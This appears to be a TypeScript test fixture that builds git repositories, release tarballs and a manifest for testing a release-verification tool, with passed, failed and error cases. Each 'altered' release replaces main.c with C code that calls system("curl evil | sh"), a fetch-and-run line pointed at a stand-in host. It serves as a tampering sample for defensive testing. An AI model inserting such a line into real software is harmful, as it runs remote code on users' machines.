/**
 * A batch manifest over real releases: small git repositories built by code (fixed dates), tarballs made
 * by `git archive` and GNU tar, some of them altered. Shared by the batch, Slurm and report tests and by
 * scripts/bench-batch.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeTar } from '../helpers/archives.js';
import { git, makeRepo, writeFiles } from '../helpers/git.js';

export interface FixtureRelease {
  id: string;
  tarball: string;
  repo: string;
  tag?: string;
  commit?: string;
  expect: 'passed' | 'failed' | 'error';
}

export interface BatchFixture {
  dir: string;
  manifest: string;
  releases: FixtureRelease[];
}

/**
 * `repos` repositories × `versions` tags. Per repository: tarballs of every tag from `git archive`
 * (passed), the last version with a modified source file (failed), and one row naming a missing tag
 * (error). Odd-numbered repositories are given as git bundles, so they are cloned into the shared cache.
 */
export function buildBatchFixture(dir: string, opts: { repos?: number; versions?: number } = {}): BatchFixture {
  const nRepos = opts.repos ?? 4;
  const nVersions = opts.versions ?? 4;
  mkdirSync(join(dir, 'tarballs'), { recursive: true });
  const releases: FixtureRelease[] = [];
  for (let r = 0; r < nRepos; r++) {
    const name = `proj${r}`;
    const repo = makeRepo(join(dir, 'repos', name));
    for (let v = 1; v <= nVersions; v++) {
      repo.commit({
        'README.md': `# ${name}\n\nversion 1.${v}\n`,
        'src/main.c': `#include <stdio.h>\nint main(void) { puts("${name} 1.${v}"); return ${v}; }\n`,
        [`src/feature${v}.c`]: `int feature${v}(void) { return ${v * 7}; }\n`,
        'Makefile': `all:\n\tcc -o ${name} src/*.c\n`,
      });
      repo.tag(`v1.${v}`, { message: `${name} 1.${v}` });
      const tarball = join(dir, 'tarballs', `${name}-1.${v}.tar.gz`);
      git(repo.dir, ['archive', '--format=tar.gz', `--prefix=${name}-1.${v}/`, '-o', tarball, `v1.${v}`]);
      releases.push({ id: `${name}-1.${v}`, tarball, repo: repo.dir, tag: `v1.${v}`, expect: 'passed' });
    }
    // An altered release: the last version with a changed main.c, packed by GNU tar.
    const alt = join(dir, 'work', `${name}-1.${nVersions}`);
    mkdirSync(alt, { recursive: true });
    git(repo.dir, ['archive', '--format=tar', '-o', join(dir, 'work', `${name}.tar`), `v1.${nVersions}`]);
    execFileSync('tar', ['-xf', join(dir, 'work', `${name}.tar`), '-C', alt]);
    writeFiles(alt, { 'src/main.c': `#include <stdio.h>\nint main(void) { system("curl evil | sh"); return 0; }\n` });
    const altTar = makeTar(alt, { compress: 'gzip', out: join(dir, 'tarballs', `${name}-1.${nVersions}-altered.tar.gz`) });
    releases.push({ id: `${name}-altered`, tarball: altTar, repo: repo.dir, tag: `v1.${nVersions}`, expect: 'failed' });
    releases.push({ id: `${name}-missing-tag`, tarball: join(dir, 'tarballs', `${name}-1.1.tar.gz`), repo: repo.dir, tag: 'v9.9', expect: 'error' });
    if (r % 2 === 1) {
      const bundle = join(dir, 'repos', `${name}.bundle`);
      git(repo.dir, ['bundle', 'create', bundle, '--all']);
      for (const rel of releases) if (rel.repo === repo.dir) rel.repo = bundle;
    }
  }
  const manifest = join(dir, 'manifest.jsonl');
  // Paths relative to the manifest, as a researcher's manifest would have them.
  const rel = (p: string) => p.slice(dir.length + 1);
  writeFileSync(manifest, releases.map((x) => JSON.stringify({ id: x.id, tarball: rel(x.tarball), repo: rel(x.repo), ...(x.tag ? { tag: x.tag } : {}) })).join('\n') + '\n');
  return { dir, manifest, releases };
}
